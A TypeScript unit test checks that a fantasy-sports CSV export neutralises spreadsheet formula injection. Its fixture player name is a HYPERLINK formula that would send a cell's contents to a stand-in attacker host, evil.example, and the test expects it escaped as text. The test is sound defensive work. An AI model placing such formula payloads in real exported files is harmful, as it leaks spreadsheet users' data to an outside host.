import { describe, expect, it } from 'vitest';
import type { TSlatePlayer } from '@dfs/contracts';
import { projectionCsv } from './lineup-files';

describe('projectionCsv', () => {
  it('writes an imported name that is a formula as text, and negative numbers as numbers', () => {
    const player = {
      id: '123',
      name: '=HYPERLINK("http://evil.example/?"&A1,"x")',
      team: '-BOS',
      positions: ['PG'],
      salary: 5000,
      projection: -5,
    } as unknown as TSlatePlayer;
    const [header, row] = projectionCsv([player], undefined).split('\r\n');
    expect(header).toBe('ID,Name,Team,Position,Salary,Projection,Min Exposure,Max Exposure');
    expect(row).toBe(`123,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",'-BOS,PG,5000,-5,,`);
  });
});
